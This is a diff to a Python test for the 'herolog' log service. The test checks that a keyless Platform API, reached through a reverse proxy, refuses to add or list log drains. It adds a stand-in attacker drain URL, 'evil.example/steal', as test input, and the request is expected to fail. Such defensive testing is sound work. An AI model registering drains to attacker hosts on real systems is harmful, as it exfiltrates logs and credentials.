@@ -1105,19 +1105,25 @@ def test_a_keyless_api_takes_nothing_through_a_proxy(
 ) -> None:
     """A reverse proxy on this machine (nginx's `proxy_pass http://127.0.0.1:8514`, which
     sends `Host: 127.0.0.1:8514` unless told otherwise) would open the keyless API, drains'
-    credentials and all, to whoever can reach the proxy."""
+    credentials and all, to whoever can reach the proxy. One that passes its own name on
+    (`proxy_set_header Host $host`, as most configurations do) got "use a loopback address
+    (127.0.0.1)", wrong advice behind a proxy: it is told to give serve a key too."""
     running = make_server()
     store_lines(running, "demo", line("hi"))
     host = {"Host": f"127.0.0.1:{running.server.http_port}"}
-    added = httpx.post(
-        f"{running.url}/apps/demo/log-drains",
-        json={"url": "https://evil.example/steal"},
-        headers={**host, **proxy_header},
-    )
-    assert added.status_code == 403
-    assert "--api-key" in added.json()["message"]
-    listed = httpx.get(f"{running.url}/apps/demo/log-drains", headers={**host, **proxy_header})
-    assert listed.status_code == 403
+    for name in (host, {"Host": "logs.example.com"}):
+        added = httpx.post(
+            f"{running.url}/apps/demo/log-drains",
+            json={"url": "https://evil.example/steal"},
+            headers={**name, **proxy_header},
+        )
+        assert added.status_code == 403
+        assert added.json()["message"] == (
+            "Without --api-key, the Platform API answers this machine only, not requests"
+            " through a proxy: give herolog serve an --api-key."
+        )
+        listed = httpx.get(f"{running.url}/apps/demo/log-drains", headers={**name, **proxy_header})
+        assert listed.status_code == 403
     assert httpx.get(f"{running.url}/apps/demo/log-drains", headers=host).json() == []
 
 
